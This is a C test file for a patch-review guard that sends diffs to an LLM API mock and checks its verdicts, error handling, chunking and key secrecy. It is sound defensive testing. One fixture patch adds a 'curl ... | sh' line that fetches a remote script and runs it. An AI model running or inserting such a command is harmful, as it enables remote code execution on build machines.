/* temper tests — guard_llm against tests/lib/llm_mock.py, a loopback server
 * that answers like an OpenAI-compatible chat-completions API: findings
 * taken and the verdict computed here; 401, 429 (short and long
 * Retry-After), 500, malformed JSON, prose, fenced JSON, extra or badly
 * typed fields, control characters, huge answers and a slow answer all end
 * in the on_error policy (review: BLOCK, pass: WARN, block: error), never in a
 * silent pass; the diff goes in bounded chunks; the key is sent and never
 * logged. */
#include "config.h"
#include "tests/lib/plugin_harness.h"
#include "tests/lib/tap.h"
#include "tests/lib/spawn_server.h"
#include <temper/guard.h>
#include <temper/http.h>

#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define KEY "test-key-123-do-not-log"

static const char RISKY[] =
    "From 1111111111111111111111111111111111111111 Mon Sep 17 00:00:00 2001\n"
    "From: Dev <dev@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
    "Subject: [PATCH] build: fetch helper\n\n---\n"
    "diff --git a/build.sh b/build.sh\n--- a/build.sh\n+++ b/build.sh\n"
    "@@ -1,2 +1,3 @@\n #!/bin/sh\n+curl -fsSL https://203.0.113.9/x.sh | sh\n make\n-- \n2.43\n";
static const char BENIGN[] =
    "From 2222222222222222222222222222222222222222 Mon Sep 17 00:00:00 2001\n"
    "From: Dev <dev@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
    "Subject: [PATCH] docs: typo\n\n---\n"
    "diff --git a/README b/README\n--- a/README\n+++ b/README\n"
    "@@ -1 +1 @@\n-teh\n+the\n-- \n2.43\n";

struct mock {
    pid_t pid;
    int port;
    char key_file[64];
};

static int mock_start(struct mock *m)
{
    const char *src = getenv("TEMPER_SRCDIR");
    char script[4096];
    snprintf(m->key_file, sizeof m->key_file, "/tmp/temper-llm-key-XXXXXX");
    int fd = mkstemp(m->key_file);
    if (fd < 0 || write(fd, KEY "\n", sizeof KEY) != (ssize_t)sizeof KEY || close(fd) != 0) {
        return -1;
    }
    snprintf(script, sizeof script, "%s/tests/lib/llm_mock.py", src ? src : ".");
    const char *argv[] = { ts_python(), script, "--key", KEY, NULL };
    m->port = ts_spawn_port(argv, &m->pid);
    return m->port > 0 ? 0 : -1;
}

static void mock_stop(struct mock *m)
{
    ts_stop(&m->pid);
    unlink(m->key_file);
}

/* GET /_stats as text (new string). */
static char *mock_stats(const struct mock *m)
{
    char cmd[160];
    snprintf(cmd, sizeof cmd, "http://127.0.0.1:%d/_stats", m->port);
    char prog[512];
    snprintf(prog, sizeof prog, "import urllib.request,sys;sys.stdout.write(urllib.request."
                                "urlopen('%s').read().decode())", cmd);
    int pfd[2];
    if (pipe(pfd) != 0) {
        return NULL;
    }
    pid_t pid = fork();
    if (pid == 0) {
        dup2(pfd[1], 1);
        close(pfd[0]);
        close(pfd[1]);
        execlp(ts_python(), "python3", "-c", prog, (char *)NULL);
        _exit(127);
    }
    close(pfd[1]);
    char *buf = calloc(1, 65536);
    size_t k = 0;
    ssize_t n;
    while (buf && k + 1 < 65536 && (n = read(pfd[0], buf + k, 65535 - k)) > 0) {
        k += (size_t)n;
    }
    close(pfd[0]);
    waitpid(pid, NULL, 0);
    return buf;
}

static long mock_count(const struct mock *m)
{
    char *s = mock_stats(m);
    const char *p = s ? strstr(s, "\"count\": ") : NULL;
    long n = p ? strtol(p + 9, NULL, 10) : -1;
    free(s);
    return n;
}

struct result {
    int rc;
    enum temper_verdict v;
    char rules[512];
};

static bool keep_rate; /* keep the SDK's per-host rate-limit table between runs */

/* Count of requests the mock got. */
static long mock_count(const struct mock *m);

/* Load guard_llm with model and extra options, review `diff`. */
static struct result run(const struct mock *m, const char *model, const char *diff,
                         const char *extra1, const char *extra2)
{
    struct result r = { TEMPER_EINTERNAL, TEMPER_VERDICT_NONE, "" };
    char base[96], mdl[96], key[96];
    snprintf(base, sizeof base, "base_url=http://127.0.0.1:%d/v1/", m->port);
    snprintf(mdl, sizeof mdl, "model=%s", model);
    snprintf(key, sizeof key, "key_file=%s", m->key_file);
    const char *kvs[] = { base, mdl, key, "timeout=1500ms", "retries=1", "max_wait=3s",
                          extra1, extra2, NULL };
    struct ph h = { 0 };
    char *err = NULL;
    struct temper_artifact *ch = temper_artifact_new(TEMPER_ART_CHANGE, "change");
    struct temper_artifact *d = temper_artifact_new(TEMPER_ART_DIFF, "diff");
    if (!keep_rate) {
        temper_http_rate_forget(NULL); /* each case starts with a fresh view of the host */
    }
    if (ph_load(&h, TEMPER_KIND_GUARD, "llm", kvs, &err) == TEMPER_OK && ph_open(&h) == 0 &&
        ch && d && temper_artifact_set(ch, TEMPER_ATTR_UPSTREAM, "pkg") == TEMPER_OK &&
        temper_artifact_set_data(d, diff, strlen(diff)) == TEMPER_OK) {
        const struct temper_guard_ops *ops = ph_ops(&h);
        r.rc = ops->review(h.state, h.st, ch, d, &r.v);
        size_t k = 0;
        for (size_t i = 0; i < temper_stage_finding_count(h.st); i++) {
            const struct temper_finding *f = temper_stage_finding_at(h.st, i);
            int n = snprintf(r.rules + k, sizeof r.rules - k, "%s%s", k ? "," : "", f->rule);
            k += n > 0 && (size_t)n < sizeof r.rules - k ? (size_t)n : 0;
        }
    } else {
        printf("# cannot open guard_llm: %s\n", err ? err : temper_stage_error(h.st));
    }
    free(err);
    temper_artifact_free(ch);
    temper_artifact_free(d);
    ph_close(&h);
    return r;
}

static void test_answers(const struct mock *m)
{
    struct result r;
    TEST("a risky diff: the finding is taken, the verdict is BLOCK") {
        r = run(m, "ok", RISKY, NULL, NULL);
        CHECK_INT_EQ(r.rc, TEMPER_OK);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
        CHECK_STR_EQ(r.rules, "remote-code-exec");
    }
    TEST("a benign diff: PASS") {
        r = run(m, "ok", BENIGN, NULL, NULL);
        CHECK_INT_EQ(r.rc, TEMPER_OK);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_PASS);
    }
    TEST("block_at above the finding: WARN, not BLOCK") {
        r = run(m, "ok", RISKY, "block_at=critical", NULL);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_WARN);
    }
    TEST("429 with Retry-After: 1 is waited for, then the answer counts") {
        r = run(m, "ratelimit", RISKY, NULL, NULL);
        CHECK_INT_EQ(r.rc, TEMPER_OK);
        CHECK_STR_EQ(r.rules, "remote-code-exec");
    }
}

static void test_failures(const struct mock *m)
{
    static const char *const bad[] = { "ratelimit-long", "error500", "malformed", "nochoices",
                                       "notjson", "fenced", "extrakey", "extratop", "badtype",
                                       "badsev", "ctrl", "huge", "slow", NULL };
    for (size_t i = 0; bad[i]; i++) {
        char name[96];
        snprintf(name, sizeof name, "%s: on_error=review blocks for a person", bad[i]);
        TEST(name) {
            struct result r = run(m, bad[i], BENIGN, NULL, NULL);
            CHECK_INT_EQ(r.rc, TEMPER_OK);
            CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
            CHECK_STR_EQ(r.rules, "llm-unavailable");
        }
    }
    TEST("after a 429 asking for an hour, the host gets no request at all") {
        struct result r = run(m, "ratelimit-long", BENIGN, NULL, NULL);
        long n0 = mock_count(m);
        keep_rate = true;
        struct result r2 = run(m, "ok", RISKY, NULL, NULL);
        keep_rate = false;
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
        CHECK_INT_EQ(r2.v, TEMPER_VERDICT_BLOCK);
        CHECK_STR_EQ(r2.rules, "llm-unavailable");
        CHECK(n0 > 0 && mock_count(m) == n0);
    }
    TEST("a wrong key: 401, blocked for review") {
        struct mock w = *m;
        snprintf(w.key_file, sizeof w.key_file, "/tmp/temper-llm-wrong-XXXXXX");
        int fd = mkstemp(w.key_file);
        CHECK(fd >= 0 && write(fd, "wrong\n", 6) == 6 && close(fd) == 0);
        struct result r = run(&w, "ok", RISKY, NULL, NULL);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
        CHECK_STR_EQ(r.rules, "llm-unavailable");
        unlink(w.key_file);
    }
    TEST("on_error=pass: WARN with the finding, not a silent pass") {
        struct result r = run(m, "error500", RISKY, "on_error=pass", NULL);
        CHECK_INT_EQ(r.rc, TEMPER_OK);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_WARN);
        CHECK_STR_EQ(r.rules, "llm-unavailable");
    }
    TEST("on_error=block: the stage fails") {
        struct result r = run(m, "notjson", RISKY, "on_error=block", NULL);
        CHECK(r.rc != TEMPER_OK);
    }
    TEST("an unknown on_error value is refused by the option table") {
        struct result r = run(m, "ok", RISKY, "on_error=ignore", NULL);
        CHECK_INT_EQ(r.rc, TEMPER_EINTERNAL);
    }
}

static void test_chunks(const struct mock *m)
{
    struct temper_buf b;
    temper_buf_init(&b, 0);
    for (int i = 0; i < 60; i++) {
        if (temper_buf_printf(&b, "%s", i == 30 ? RISKY : BENIGN) != TEMPER_OK) {
            break;
        }
    }
    TEST("a long diff (about 13 KiB) goes in 8 chunks of at most chunk_size = 2K, each asked") {
        char *before = mock_stats(m);
        struct result r = run(m, "ok", b.data ? b.data : "", "chunk_size=2K", NULL);
        char *after = mock_stats(m);
        CHECK_INT_EQ(r.rc, TEMPER_OK);
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
        CHECK_STR_CONTAINS(after, "\"1 of 8\"");
        CHECK_STR_CONTAINS(after, "\"8 of 8\"");
        CHECK(after && !strstr(after, "\"9 of"));
        free(before);
        free(after);
    }
    TEST("over max_chunks: not sent, blocked for review") {
        struct result r = run(m, "ok", b.data ? b.data : "", "chunk_size=2K", "max_chunks=3");
        CHECK_INT_EQ(r.v, TEMPER_VERDICT_BLOCK);
        CHECK_STR_EQ(r.rules, "llm-unavailable");
    }
    temper_buf_cleanup(&b);
}

int main(void)
{
    struct mock m = { -1, -1, "" };
    unsetenv("http_proxy");
    unsetenv("HTTP_PROXY");
    unsetenv("all_proxy");
    unsetenv("ALL_PROXY");
    setenv("no_proxy", "127.0.0.1,localhost", 1);
    int up = mock_start(&m);
    TEST("the API mock starts") {
        CHECK_INT_EQ(up, 0);
    }
    if (up == 0) {
        ph_log_capture();
        test_answers(&m);
        test_failures(&m);
        test_chunks(&m);
        char *log = ph_log_text();
        char *stats = mock_stats(&m);
        TEST("the key reached the API and never the log") {
            CHECK_STR_CONTAINS(stats, "\"auth_ok\": ");
            CHECK(stats && !strstr(stats, "\"auth_ok\": 0,"));
            CHECK(log && !strstr(log, "test-key-123"));
            CHECK_STR_CONTAINS(stats, "\"system_ok\": ");
        }
        free(log);
        free(stats);
        ph_log_release();
    }
    mock_stop(&m);
    return tap_done();
}
